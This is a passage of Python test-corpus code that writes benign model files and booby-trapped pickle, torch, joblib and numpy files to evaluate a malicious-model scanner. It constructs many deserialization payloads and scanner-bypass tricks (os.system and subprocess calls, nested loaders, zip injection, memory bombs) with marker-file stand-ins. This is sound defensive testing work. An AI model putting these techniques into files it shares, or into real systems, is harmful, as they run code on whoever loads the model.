"""A labelled corpus of benign model files and booby-trapped ones, built locally.

``build_corpus(dest)`` writes every file and returns one :class:`CorpusEntry`
per subject. Payloads are harmless (they would touch a marker file inside
``dest`` or call ``os.getpid``) and are *never* executed here: malicious
pickles are assembled opcode by opcode or pickled from objects whose
``__reduce__`` names the payload (pickling does not run it).

Families follow the bypasses seen against today's scanners: alternative modules
for system/exec, getattr/attrgetter/methodcaller chains, nested pickle.loads /
torch.load, memo and BUILD tricks, extension-registry opcodes, dotted names
through an allowed module, payloads injected into real torch zips, legacy torch
files, joblib (plain and compressed) and numpy containers, and payloads after
the first STOP.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import tarfile
import warnings
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True)
class CorpusEntry:
    path: Path
    label: str  # "benign" | "malicious"
    family: str  # bypass family (malicious) or format (benign)
    payload: str | None  # module.name the scanner must name (None: not statically nameable)
    executes_at_load: bool  # would the usual loader (pickle/torch.load(weights_only=False)/joblib/np.load) run it
    expect: str = ""  # expected verdict: "malicious" | "clean" | "suspicious"


# ------------------------------------------------------------------ opcode assembler
def _u(s: str) -> bytes:
    b = s.encode("utf-8")
    return (b"\x8c" + bytes([len(b)]) + b) if len(b) < 256 else (b"X" + struct.pack("<I", len(b)) + b)


def _b(data: bytes) -> bytes:
    return (b"C" + bytes([len(data)]) + data) if len(data) < 256 else (b"B" + struct.pack("<I", len(data)) + data)


def _g(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _sg(module: str, name: str) -> bytes:
    return _u(module) + _u(name) + b"\x93"


def _t(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def _call(func: bytes, *args: bytes) -> bytes:
    return func + _t(*args) + b"R"


P2, P4 = b"\x80\x02", b"\x80\x04"
STOP = b"."


class _Reduce:
    """Pickles as ``func(*args)``; building the pickle never calls ``func``."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


# ------------------------------------------------------------------ zip surgery
def _torch_zip_bytes(obj) -> bytes:
    """torch.save into memory: the archive prefix is then always ``archive/``."""
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


def _rezip(src: bytes, *, replace: dict | None = None, add: dict | None = None, deflate: set | None = None,
           break_crc: set | None = None) -> bytes:
    replace, add, deflate, break_crc = replace or {}, add or {}, deflate or set(), break_crc or set()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(src)) as zin, zipfile.ZipFile(out, "w") as zout:
        for info in zin.infolist():
            data = replace.get(info.filename, zin.read(info.filename))
            ctype = zipfile.ZIP_DEFLATED if info.filename in deflate else zipfile.ZIP_STORED
            zout.writestr(zipfile.ZipInfo(info.filename, date_time=(2024, 1, 1, 0, 0, 0)), data, compress_type=ctype)
        for name, data in add.items():
            zout.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), data)
    raw = bytearray(out.getvalue())
    for name in break_crc:
        enc = name.encode()
        pos = 0
        while True:  # local header (CRC at +14) and central record (CRC at +16)
            pos = raw.find(b"PK\x03\x04", pos)
            if pos < 0:
                break
            nlen = struct.unpack_from("<H", raw, pos + 26)[0]
            if raw[pos + 30:pos + 30 + nlen] == enc:
                raw[pos + 14:pos + 18] = b"\xde\xad\xbe\xef"
            pos += 4
        pos = 0
        while True:
            pos = raw.find(b"PK\x01\x02", pos)
            if pos < 0:
                break
            nlen = struct.unpack_from("<H", raw, pos + 28)[0]
            if raw[pos + 46:pos + 46 + nlen] == enc:
                raw[pos + 16:pos + 20] = b"\xde\xad\xbe\xef"
            pos += 4
    return bytes(raw)


def _inject_after_proto(pkl: bytes, payload_ops: bytes) -> bytes:
    """Run ``payload_ops`` (which leave one value) first, drop the value, then the original pickle."""
    assert pkl[:1] == b"\x80"
    return pkl[:2] + payload_ops + b"0" + pkl[2:]


def _lz4_frame_raw(data: bytes) -> bytes:
    """An LZ4 frame holding ``data`` in uncompressed blocks (valid for any LZ4 reader)."""
    out = bytearray(b"\x04\x22\x4d\x18" + bytes([0x60, 0x70]) + b"\x73")
    for i in range(0, len(data), 4 << 20):
        chunk = data[i:i + (4 << 20)]
        out += struct.pack("<I", len(chunk) | 0x80000000) + chunk
    out += b"\x00\x00\x00\x00"
    return bytes(out)


# ------------------------------------------------------------------ the corpus
def build_corpus(dest: Path) -> list[CorpusEntry]:
    import joblib
    import numpy as np
    import torch
    from safetensors.torch import save_file
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.tree import DecisionTreeClassifier

    torch.set_num_threads(1)
    dest = Path(dest)
    ben, mal = dest / "benign", dest / "malicious"
    ben.mkdir(parents=True, exist_ok=True)
    mal.mkdir(parents=True, exist_ok=True)
    marker = str(dest / "PWNED")
    cmd = f"touch {marker}"
    entries: list[CorpusEntry] = []

    def B(name: str, data: bytes | None, family: str, expect: str = "clean") -> Path:
        p = ben / name
        if data is not None:
            p.write_bytes(data)
        entries.append(CorpusEntry(p, "benign", family, None, False, expect))
        return p

    def M(name: str, data: bytes | None, family: str, payload: str | None, executes: bool = True) -> Path:
        p = mal / name
        if data is not None:
            p.write_bytes(data)
        entries.append(CorpusEntry(p, "malicious", family, payload, executes, "malicious"))
        return p

    # ---------------------------------------------------------------- benign
    gen = torch.Generator().manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Conv2d(1, 4, 3), torch.nn.ReLU(), torch.nn.Flatten(),
                              torch.nn.Linear(4 * 6 * 6, 10))
    with torch.no_grad():
        for prm in net.parameters():
            prm.copy_(torch.randn(prm.shape, generator=gen) * 0.1)
    sd = net.state_dict()
    sd_zip = _torch_zip_bytes(sd)
    B("state_dict.pt", sd_zip, "torch-zip state_dict")
    buf = io.BytesIO()
    torch.save(sd, buf, _use_new_zipfile_serialization=False)
    legacy_sd = buf.getvalue()
    B("state_dict_legacy.pt", legacy_sd, "torch-legacy state_dict")
    buf = io.BytesIO()
    torch.save(net, buf)
    B("whole_module.pt", buf.getvalue(), "torch-zip whole module (review tier)", "suspicious")
    # an Adam-shaped optimizer state (building a real torch.optim.Adam imports torch._dynamo: seconds)
    opt_state = {"state": {i: {"step": torch.tensor(3.0), "exp_avg": torch.zeros_like(v), "exp_avg_sq": torch.zeros_like(v)}
                           for i, v in enumerate(sd.values())},
                 "param_groups": [{"lr": 1e-3, "betas": (0.9, 0.999), "eps": 1e-8, "weight_decay": 0.0,
                                   "amsgrad": False, "params": list(range(len(sd)))}]}
    B("checkpoint.tar", _torch_zip_bytes({"model": sd, "optimizer": opt_state, "epoch": 3,
                                          "params": [torch.nn.Parameter(torch.ones(2))]}), "torch-zip training checkpoint")
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        torch.jit.save(torch.jit.script(net), buf)
    B("scripted.pt", buf.getvalue(), "torchscript archive")
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        torch.jit.save(torch.jit.trace(net, torch.zeros(1, 1, 8, 8)), buf)
    traced = buf.getvalue()
    B("traced.pt", traced, "torchscript archive from jit.trace (traced_inputs.pkl)")
    B("model.safetensors", None, "safetensors")
    save_file({k: v.contiguous() for k, v in sd.items()}, str(ben / "model.safetensors"))
    arr = np.arange(60, dtype=np.float32).reshape(3, 4, 5)
    npy = io.BytesIO(); np.save(npy, arr); B("weights.npy", npy.getvalue(), "numpy .npy")
    npz = io.BytesIO(); np.savez_compressed(npz, w=arr, b=np.ones(3, dtype=np.int64)); B("weights.npz", npz.getvalue(), "numpy .npz")
    rng = np.random.RandomState(0)
    X, y = rng.randn(40, 3), (rng.rand(40) > 0.5).astype(int)
    lr = LogisticRegression().fit(X, y)
    B("logreg.pkl", pickle.dumps(lr), "scikit-learn pickle (review tier)", "suspicious")
    B("tree.sav", pickle.dumps(DecisionTreeClassifier(random_state=0).fit(X, y)), "scikit-learn tree .sav (review tier)", "suspicious")
    pipe = make_pipeline(StandardScaler(), LogisticRegression()).fit(X, y)
    p = ben / "pipeline.joblib"; joblib.dump(pipe, p); B("pipeline.joblib", None, "joblib plain (review tier)", "suspicious")
    data = {"w": arr, "b": np.ones(5), "meta": {"epochs": 3, "names": ["a", "b"]}, "ints": np.arange(7)}
    for comp in ("zlib", "gzip", "bz2", "xz", "lzma"):
        joblib.dump(data, ben / f"arrays.{comp}.joblib", compress=(comp, 3))
        B(f"arrays.{comp}.joblib", None, f"joblib compressed {comp}")
    plain = io.BytesIO(); joblib.dump(data, plain)
    B("arrays.joblib", plain.getvalue(), "joblib plain with inline arrays")
    B("arrays.lz4.joblib", _lz4_frame_raw(plain.getvalue()), "joblib compressed lz4")
    for proto in range(0, 6):
        B(f"plain_p{proto}.pkl", pickle.dumps({"a": [1, 2.5, "x", b"y", None, True], "s": {1, 2}, "t": (1,),
                                               "f": frozenset({3}), "c": 1 + 2j}, protocol=proto), f"plain pickle protocol {proto}")
    import argparse

    B("tensors_plain_pickle.pkl", pickle.dumps({"t": torch.ones(3), "p": Path("/data/run1"), "args": argparse.Namespace(lr=0.1)}),
      "plain pickle of tensors, paths and argparse args")
    B("randomstate.pkl", pickle.dumps(np.random.RandomState(1)), "numpy RandomState pickle")
    B("object_free.bin", pickle.dumps([np.float64(1.5), np.int32(3), np.dtype("f4")]), "numpy scalars (extensionless name)")
    # what transformers' training_args.bin looks like: a dataclass instance holding Enum members
    B("training_args.bin", P2 + _g("transformers.training_args", "TrainingArguments") + b")\x81}("
      + _u("output_dir") + _u("out") + _u("eval_strategy") + _g("transformers.trainer_utils", "IntervalStrategy")
      + _t(_u("steps")) + b"R" + _u("optim") + _g("transformers.training_args", "OptimizerNames") + _t(_u("adamw_torch"))
      + b"R" + _u("learning_rate") + b"G" + struct.pack(">d", 5e-5) + b"ub" + STOP,
      "transformers training_args (enums; review tier)", "suspicious")
    hf = ben / "hf_model"
    hf.mkdir(exist_ok=True)
    (hf / "config.json").write_text(json.dumps({"architectures": ["TinyNetForImageClassification"], "model_type": "tiny",
                                                "num_labels": 10}))
    save_file({k: v.contiguous() for k, v in sd.items()}, str(hf / "model.safetensors"))
    (hf / "pytorch_model.bin").write_bytes(sd_zip)
    (hf / "README.md").write_text("# tiny model\n\nlorem ipsum\n")
    (hf / "vocab.txt").write_text("a\nb\nc\n(\nc\n")
    (hf / "tokenizer.json").write_text(json.dumps({"version": "1.0", "model": {"vocab": {"a": 0}}}))
    (hf / "training_args.bin").write_bytes(pickle.dumps({"lr": 0.1, "epochs": 2}, protocol=4))
    B("hf_model", None, "Hugging Face-style folder")

    # ---------------------------------------------------------------- malicious: classic __reduce__
    M("reduce_os_system.pkl", pickle.dumps(_Reduce(os.system, cmd)), "classic reduce", "posix.system")
    M("reduce_os_system_p0.pkl", _g("os", "system") + b"(S'" + cmd.encode() + b"'\ntR.", "classic reduce (protocol 0)", "os.system")
    M("reduce_posix_inst.pkl", b"(S'" + cmd.encode() + b"'\nios\nsystem\n.", "classic INST", "os.system")
    M("reduce_subprocess.pkl", P2 + _call(_g("subprocess", "Popen"), b"(" + _u("touch") + _u(marker) + b"l") + STOP,
      "classic reduce", "subprocess.Popen")
    M("reduce_exec.pkl", P4 + _call(_sg("builtins", "exec"), _u(f"open({marker!r}, 'w').close()")) + STOP, "classic reduce", "builtins.exec")
    M("reduce_eval.pkl", P2 + _call(_g("__builtin__", "eval"), _u("__import__('os').getpid()")) + STOP, "classic reduce (py2 name)", "builtins.eval")
    M("obj_opcode.pkl", P2 + b"(" + _g("os", "getpid") + b"o" + STOP, "OBJ opcode", "os.getpid")
    M("newobj_popen.pkl", P2 + _g("subprocess", "Popen") + _t(_u("true")) + b"\x81" + STOP, "NEWOBJ of a dangerous class", "subprocess.Popen")
    # ---------------------------------------------------------------- alternative modules
    M("alt_pty_spawn.pkl", P2 + _call(_g("pty", "spawn"), _u("true")) + STOP, "alternative module", "pty.spawn")
    M("alt_runpy.pkl", P4 + _call(_sg("runpy", "_run_code"), _u("import os; os.getpid()"), b"}") + STOP,
      "alternative module", "runpy._run_code")
    M("alt_code_interp.pkl", P2 + _call(_g("builtins", "getattr"), _call(_g("code", "InteractiveInterpreter")), _u("runsource"))
      + _t(_u("import os; os.getpid()")) + b"R" + STOP, "alternative module", "code.InteractiveInterpreter")
    M("alt_timeit.pkl", P2 + _call(_g("timeit", "timeit"), _u("import os; os.getpid()"), _u("pass"), b"N", b"K\x01")
      + STOP, "alternative module", "timeit.timeit")
    M("alt_pdb.pkl", P2 + _call(_g("pdb", "run"), _u("import os; os.getpid()")) + STOP, "alternative module", "pdb.run")
    M("alt_posixsubprocess.pkl", P2 + _call(_g("_posixsubprocess", "fork_exec"), _u("true")) + STOP, "alternative module",
      "_posixsubprocess.fork_exec")
    M("alt_profile.pkl", P2 + _call(_g("cProfile", "run"), _u("import os; os.getpid()")) + STOP, "alternative module", "cProfile.run")
    M("alt_numpy_runstring.pkl", P2 + _call(_g("numpy.testing._private.utils", "runstring"), _u("import os; os.getpid()"), b"}")
      + STOP, "alternative module (numpy)", "numpy.testing._private.utils.runstring")
    M("gadget_ufunc_reconstruct.pkl", P4 + _call(_call(_sg("numpy._core", "_ufunc_reconstruct"), _u("posix"), _u("system")),
                                                 _u(cmd)) + STOP, "allowlisted numpy helper used as an import gadget",
      "posix.system")
    M("alt_asyncio_shell.pkl", P2 + _call(_g("asyncio.subprocess", "create_subprocess_shell"), _u(cmd)) + STOP,
      "alternative module", "asyncio.subprocess.create_subprocess_shell")
    # ---------------------------------------------------------------- getattr / attrgetter / methodcaller chains
    imp_os = _call(_g("importlib", "import_module"), _u("os"))
    M("chain_getattr.pkl", P2 + _call(_g("builtins", "getattr"), imp_os, _u("getpid")) + b")R" + STOP, "getattr chain", "os.getpid")
    M("chain_attrgetter.pkl", P2 + _call(_call(_g("operator", "attrgetter"), _u("system")), _call(_g("builtins", "__import__"), _u("os")))
      + _t(_u(cmd)) + b"R" + STOP, "attrgetter chain", "os.system")
    M("chain_methodcaller.pkl", P2 + _call(_call(_g("_operator", "methodcaller"), _u("system"), _u(cmd)),
                                           _call(_g("builtins", "__import__"), _u("os"))) + STOP, "methodcaller chain", "os.system")
    M("chain_partial.pkl", P2 + _call(_g("functools", "partial"), _g("posix", "system"), _u(cmd)) + b")R" + STOP,
      "functools.partial wrapper", "posix.system")
    M("chain_rebuild_from_type.pkl", P2 + _call(_g("torch._tensor", "_rebuild_from_type_v2"), _g("posix", "system"),
                                                _g("torch", "Tensor"), _t(_u(cmd)), b"}") + STOP,
      "allowlisted helper that calls its argument", "posix.system")
    M("chain_defaultdict.pkl", P2 + _call(_g("collections", "defaultdict"), _g("posix", "getpid")) + STOP,
      "allowlisted container with a callable factory", "posix.getpid", executes=False)
    M("chain_reconstructor_base.pkl", P2 + _call(_g("copyreg", "_reconstructor"), _g("collections", "OrderedDict"),
                                                 _g("subprocess", "Popen"), _u("true")) + STOP,
      "copyreg._reconstructor with a dangerous base", "subprocess.Popen")
    # ---------------------------------------------------------------- nested loaders
    inner = pickle.dumps(_Reduce(os.system, cmd))
    M("nested_pickle_loads.pkl", P4 + _call(_sg("pickle", "loads"), _b(inner)) + STOP, "nested pickle.loads", "posix.system")
    import base64

    M("nested_b64_loads.pkl", P2 + _call(_g("pickle", "loads"), _call(_g("base64", "b64decode"), _u(base64.b64encode(inner).decode())))
      + STOP, "nested pickle.loads of base64 data", "posix.system")
    M("nested_zlib_loads.pkl", P4 + _call(_sg("_pickle", "loads"), _call(_sg("zlib", "decompress"), _b(zlib.compress(inner))))
      + STOP, "nested pickle.loads of zlib data", "posix.system")
    evil_zip = _rezip(sd_zip, replace={"archive/data.pkl": _inject_after_proto(
        zipfile.ZipFile(io.BytesIO(sd_zip)).read("archive/data.pkl"), _call(_g("posix", "system"), _u(cmd)))})
    M("nested_torch_load.pkl", P2 + _call(_g("torch", "load"), _call(_g("io", "BytesIO"), _b(evil_zip))) + STOP,
      "nested torch.load", "posix.system")
    evil_ckpt = _torch_zip_bytes({"x": _Reduce(os.system, cmd)})
    M("nested_load_from_bytes.pkl", P4 + _call(_sg("torch.storage", "_load_from_bytes"), _b(evil_ckpt)) + STOP,
      "nested torch.load via allowlisted torch.storage._load_from_bytes", "posix.system")
    M("nested_codecs_p2.pkl", pickle.dumps(_Reduce(pickle.loads, inner), protocol=2), "nested pickle.loads via _codecs.encode",
      "posix.system")
    # ---------------------------------------------------------------- memo tricks
    M("memo_strings.pkl", P4 + b"(" + _u("os") + b"\x94" + _u("system") + b"\x94" + b"l0" + _u("x") + b"0"
      + b"h\x00h\x01\x93" + _t(_u(cmd)) + b"R" + STOP, "memo: names through the memo", "os.system")
    M("memo_global.pkl", P2 + _g("posix", "system") + b"q\x050" + b"(K\x01K\x02l0" + b"h\x05" + _t(_u(cmd)) + b"R" + STOP,
      "memo: callable stored, popped, recalled", "posix.system")
    M("computed_stack_global.pkl", P4 + _call(_sg("operator", "add"), _u("o"), _u("s")) + _u("system") + b"\x93" + _t(_u(cmd))
      + b"R" + STOP, "STACK_GLOBAL with computed strings", "os.system")
    # ---------------------------------------------------------------- BUILD tricks
    od = _call(_g("collections", "OrderedDict"))
    M("build_setstate_hook.pkl", P2 + od + b"}" + _u("__setstate__") + _g("posix", "system") + b"sb" + _u(cmd) + b"b" + STOP,
      "BUILD plants __setstate__", "posix.system")
    M("build_monkeypatch.pkl", P2 + _g("torch", "_utils") + b"N}" + _u("_rebuild_tensor_v2") + _g("posix", "system") + b"s\x86b0"
      + STOP, "BUILD monkey-patches a module", "posix.system")
    M("build_reduce_attr.pkl", P2 + od + b"}" + _u("__reduce__") + _g("os", "getpid") + b"sb" + STOP,
      "BUILD sets __reduce__", "os.getpid", executes=False)
    M("setitem_environ.pkl", P2 + _g("os", "environ") + _u("LD_PRELOAD") + _u(marker) + b"s0" + b"N" + STOP,
      "SETITEM on an imported object", "os.environ")
    # ---------------------------------------------------------------- EXT opcodes
    M("ext1.pkl", P2 + b"\x82\x05" + _t(_u(cmd)) + b"R" + STOP, "EXT1 extension registry", None, executes=False)
    M("ext4.pkl", P2 + b"\x84" + struct.pack("<i", 0x1234) + b")R" + STOP, "EXT4 extension registry", None, executes=False)
    # ---------------------------------------------------------------- dotted names through an allowed module
    M("dotted_torch_utils.pkl", P4 + _call(_sg("torch._utils", "os.system"), _u(cmd)) + STOP, "dotted name via allowed module",
      "os.system")
    M("dotted_serialization_pickle.pkl", P4 + _call(_sg("torch.serialization", "pickle.loads"), _b(inner)) + STOP,
      "dotted name via allowed module", "pickle.loads")
    M("dotted_globals.pkl", P4 + _sg("collections", "OrderedDict.__init__.__globals__") + STOP,
      "dunder traversal", "collections.OrderedDict.__init__.__globals__", executes=False)
    M("dotted_numpy.pkl", P4 + _call(_sg("numpy", "testing._private.utils.runstring"), _u("import os"), b"}") + STOP,
      "dotted name via numpy", "numpy.testing._private.utils.runstring")
    # ---------------------------------------------------------------- real torch zip, injected
    data_pkl = zipfile.ZipFile(io.BytesIO(sd_zip)).read("archive/data.pkl")
    evil_data = _inject_after_proto(data_pkl, _call(_g("posix", "system"), _u(cmd)))
    M("zip_data_pkl.pt", _rezip(sd_zip, replace={"archive/data.pkl": evil_data}), "torch zip: data.pkl rewritten", "posix.system")
    M("zip_data_pkl_badcrc.pt", _rezip(sd_zip, replace={"archive/data.pkl": evil_data}, break_crc={"archive/data.pkl"}),
      "torch zip: rewritten data.pkl with a broken CRC", "posix.system")
    M("zip_deflated.pt", _rezip(sd_zip, replace={"archive/data.pkl": evil_data}, deflate={"archive/data.pkl"}),
      "torch zip: deflated data.pkl", "posix.system")
    M("zip_extra_member.pt", _rezip(sd_zip, add={"archive/extra.pkl": inner}), "torch zip: extra member", "posix.system",
      executes=False)
    M("zip_outside_prefix.pt", _rezip(sd_zip, add={"other/data.pkl": inner}), "torch zip: member outside the prefix",
      "posix.system", executes=False)
    M("zip_traversal.pt", _rezip(sd_zip, add={"../../evil.pkl": inner}), "torch zip: path traversal member", "posix.system",
      executes=False)
    M("zip_after_stop.pt", _rezip(sd_zip, replace={"archive/data.pkl": data_pkl + inner}), "torch zip: pickle after STOP",
      "posix.system", executes=False)
    M("zip_in_data_blob.pt", _rezip(sd_zip, replace={"archive/data.pkl": _inject_after_proto(
        data_pkl, _call(_g("builtins", "getattr"), _call(_g("builtins", "__import__"), _u("os")), _u("system")) + b"0"
        + _call(_g("os", "getpid")))}), "torch zip: getattr chain in data.pkl", "os.getpid")
    ts_names = zipfile.ZipFile(io.BytesIO(traced)).namelist()
    ti_name = next(n for n in ts_names if n.endswith("/traced_inputs.pkl"))
    ti_pkl = zipfile.ZipFile(io.BytesIO(traced)).read(ti_name)
    M("traced_inputs_payload.pt", _rezip(traced, replace={ti_name: _inject_after_proto(
        ti_pkl, _call(_g("posix", "system"), _u(cmd)))}), "torchscript: payload in traced_inputs.pkl", "posix.system",
      executes=False)
    M("checkpoint_evil.pt", _torch_zip_bytes({"model": sd, "hook": _Reduce(os.system, cmd)}), "torch.save of a payload object",
      "posix.system")
    # ---------------------------------------------------------------- legacy torch / old tar
    buf = io.BytesIO()
    torch.save({"model": sd, "x": _Reduce(os.system, cmd)}, buf, _use_new_zipfile_serialization=False)
    M("legacy_payload.pt", buf.getvalue(), "legacy torch file with payload", "posix.system")
    M("legacy_trailing.pt", legacy_sd + inner, "legacy torch: pickle after the storages", "posix.system", executes=False)
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    M("legacy_sysinfo.pt", magic + pickle.dumps(1001, protocol=2) + pickle.dumps(_Reduce(os.system, cmd), protocol=2)
      + legacy_sd[len(magic) + len(pickle.dumps(1001, protocol=2)):], "legacy torch: payload in sys_info", "posix.system")
    M("old_tar.pt", _old_tar({"pickle": pickle.dumps(_Reduce(os.system, cmd), protocol=2)}), "old torch tar format",
      "posix.system")
    B("old_tar_benign.pt", _old_tar({}), "old torch tar format")
    # ---------------------------------------------------------------- joblib / numpy containers
    evil_obj = np.array([_Reduce(os.system, cmd), 1], dtype=object)
    jb = io.BytesIO(); joblib.dump({"w": arr, "objs": evil_obj}, jb)
    M("joblib_object_array.joblib", jb.getvalue(), "joblib: object array nested pickle", "posix.system")
    jb = io.BytesIO(); joblib.dump({"w": arr, "x": _Reduce(os.system, cmd), "b": np.arange(9)}, jb)
    M("joblib_after_arrays.pkl", jb.getvalue(), "joblib: payload after inline arrays", "posix.system")
    for comp in ("zlib", "gzip", "xz"):
        joblib.dump({"w": arr, "x": _Reduce(os.system, cmd)}, mal / f"joblib_{comp}.joblib", compress=(comp, 3))
        M(f"joblib_{comp}.joblib", None, f"joblib compressed {comp} with payload", "posix.system")
    M("joblib_lz4.joblib", _lz4_frame_raw(jb.getvalue()), "joblib lz4 with payload", "posix.system")
    hidden = _g("posix", "getpid") + b")R0"  # to joblib: 16 bytes of uint8 array; to pickle.load: a call
    M("joblib_polyglot.joblib", P4 + b"}" + _u("w") + _sg("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}("
      + _u("shape") + b"K" + bytes([len(hidden)]) + b"\x85" + _u("dtype") + _sg("numpy", "dtype") + _u("u1")
      + b"\x89\x88\x87Rub" + hidden + b"s" + STOP, "joblib inline-array / opcode polyglot", "posix.getpid")
    npy = io.BytesIO(); np.save(npy, evil_obj, allow_pickle=True)
    M("numpy_object.npy", npy.getvalue(), "npy object array", "posix.system")
    npz = io.BytesIO(); np.savez(npz, w=arr, objs=evil_obj)
    M("numpy_object.npz", npz.getvalue(), "npz object array", "posix.system")
    npy = io.BytesIO(); np.save(npy, arr)
    M("numpy_trailing.npy", npy.getvalue() + inner, "npy with a pickle after the data", "posix.system", executes=False)
    st = (ben / "model.safetensors").read_bytes()
    M("safetensors_trailing.safetensors", st + inner, "safetensors with a pickle after the data", "posix.system", executes=False)
    # ---------------------------------------------------------------- after STOP / by content
    M("after_stop.pkl", pickle.dumps({"weights": [1, 2]}) + inner, "payload after the first STOP", "posix.system", executes=False)
    M("model.sav", pickle.dumps(_Reduce(os.system, cmd)), "odd extension (.sav)", "posix.system")
    M("model_noext", pickle.dumps(_Reduce(os.system, cmd), protocol=0), "no extension, protocol 0", "posix.system")
    evil_hf = mal / "hf_model_evil"
    evil_hf.mkdir(exist_ok=True)
    (evil_hf / "config.json").write_text(json.dumps({"architectures": ["X"], "model_type": "tiny"}))
    save_file({k: v.contiguous() for k, v in sd.items()}, str(evil_hf / "model.safetensors"))
    (evil_hf / "training_args.bin").write_bytes(pickle.dumps(_Reduce(os.system, cmd)))
    M("hf_model_evil", None, "HF folder with a booby-trapped side file", "posix.system")
    _issue12_18_families(B, M, cmd, sd, sd_zip, data_pkl, inner)
    return entries


def _issue12_18_families(B, M, cmd: str, sd: dict, sd_zip: bytes, data_pkl: bytes, inner: bytes) -> None:
    """Frame divergence, expansion and size bombs, headerless pickles, legacy whole models, multi-stream bz2, the
    encrypted flag over plaintext and symlink loops (issues 12 and 18). Pure builtins (builtins.len) are tested in
    tests/probes/test_static_bypass.py, not here: the dynamic probe rightly calls an unfamiliar call suspicious."""
    import bz2

    import torch

    def frame(n: int) -> bytes:
        return b"\x95" + struct.pack("<Q", n)

    call = _call(_sg("posix", "system"), _u(cmd))
    hidden = call + b"0"
    head = b"B" + struct.pack("<I", len(hidden))
    M("frame_straddle_hidden.pkl", P4 + frame(2 + len(head)) + b"N0" + head + hidden + b"N" + STOP,
      "FRAME straddling: payload inside a BINBYTES a frame-respecting reader sees as opcodes", "posix.system",
      executes=False)
    M("frame_stop_inside.pkl", P4 + frame(6) + b"N" + STOP + b"\x00" * 4 + P2 + call + STOP,
      "FRAME continues past STOP: the next pickle starts at the frame end for the pure-Python unpickler",
      "posix.system", executes=False)
    M("frame_past_end.pkl", P4 + frame(1 << 20) + call + STOP, "FRAME declares more bytes than the file holds",
      "posix.system")
    M("headerless_stack_global.pkl", b"S'posix'\nS'system'\n\x93S'" + cmd.encode() + b"'\n\x85R" + STOP,
      "headerless protocol-0 pickle calling through STACK_GLOBAL", "posix.system")
    M("headerless_p1.bin", b"X\x05\x00\x00\x00posixX\x06\x00\x00\x00system\x93" + _u(cmd) + b"\x85R" + STOP,
      "headerless protocol-1 pickle (no PROTO)", "posix.system")
    laughs = P4 + b"]\x94"
    for i in range(12):
        laughs += b"(" + (b"h" + bytes([i])) * 10 + b"l\x94"
    M("billion_laughs.pkl", laughs + STOP, "memo re-use expansion (billion laughs)", None, executes=False)
    M("dup_tuple_chain.pkl", P4 + b"N" + b"2\x86" * 48 + STOP, "DUP re-use expansion", None, executes=False)
    bomb = P2 + _g("__builtin__", "bytearray") + b"\x8a\x05" + (3 * 10 ** 9).to_bytes(5, "little") + b"\x85R" + STOP
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("archive/data.pkl", bomb)
        z.writestr("archive/version", "3\n")
        z.writestr("archive/byteorder", "little")
    # resource bombs run no code (executes=False: nothing for the dynamic probe to observe; loading takes GBs)
    M("bytearray_bomb.pt", buf.getvalue(), "memory bomb bytearray(3e9) in a 400-byte torch zip", "builtins.bytearray",
      executes=False)
    M("range_list_bomb.pkl", P4 + _call(_sg("builtins", "list"), _call(_sg("builtins", "range"), b"J"
                                                                         + struct.pack("<i", 10 ** 9))) + STOP,
      "memory bomb list(range(1e9))", "builtins.list", executes=False)
    buf = io.BytesIO()
    torch.save({"w": torch.zeros(4)}, buf, _use_new_zipfile_serialization=False)
    raw = buf.getvalue()
    at = raw.find(b"\x06K\x04N")
    M("legacy_storage_bomb.pt", raw[:at + 1] + b"J" + struct.pack("<i", 1_000_000_000) + raw[at + 3:],
      "legacy torch storage declaring 4 GB in a few hundred bytes", "torch.UntypedStorage", executes=False)
    pk = pickle.dumps({"w": list(range(100)), "x": _Reduce(os.system, cmd)}, protocol=2)
    M("joblib_bz2_multistream.joblib", bz2.compress(pk[:len(pk) // 2]) + bz2.compress(pk[len(pk) // 2:]),
      "joblib bz2 split over two streams, payload in the second", "posix.system")
    evil_data = _inject_after_proto(data_pkl, call)
    flagged = bytearray(_rezip(sd_zip, replace={"archive/data.pkl": evil_data}))
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        pos = 0
        while (pos := flagged.find(sig, pos)) >= 0:
            flagged[pos + off] |= 1
            pos += 4
    M("zip_encrypted_flag.pt", bytes(flagged), "torch zip: encrypted flag over plaintext members", "posix.system",
      executes=False)
    d = M("hf_symlink_loop", None, "HF folder with a symlink loop and a booby-trapped weights file", "posix.system")
    d.mkdir(exist_ok=True)
    (d / "config.json").write_text(json.dumps({"architectures": ["X"], "model_type": "tiny"}))
    (d / "pytorch_model.bin").write_bytes(pickle.dumps(_Reduce(os.system, cmd), protocol=2))
    for a, b in (("loop_a", "loop_b"), ("loop_b", "loop_a")):
        if not (d / a).is_symlink():
            os.symlink(b, d / a)
    # ---------------------------------------------------------------- benign counterparts
    net = torch.nn.Sequential(torch.nn.Conv2d(1, 4, 3), torch.nn.BatchNorm2d(4), torch.nn.ReLU(), torch.nn.Flatten(),
                              torch.nn.Linear(4 * 6 * 6, 10))
    buf = io.BytesIO()
    torch.save(net, buf, _use_new_zipfile_serialization=False)
    B("legacy_whole_module.pt", buf.getvalue(), "torch-legacy whole module (review tier)", "suspicious")
    shared = list(range(100))
    B("framed_shared_refs.pkl", pickle.dumps({"a": [shared] * 5000, "s": "x" * 200_000, "w": list(range(30_000))},
                                             protocol=5), "protocol-5 pickle, many frames and shared references")
    B("headerless_p0_benign.pkl", b"(dp0\nS'lr'\np1\nF0.001\nsS'layers'\np2\n(lp3\nI64\naI10\nas.",
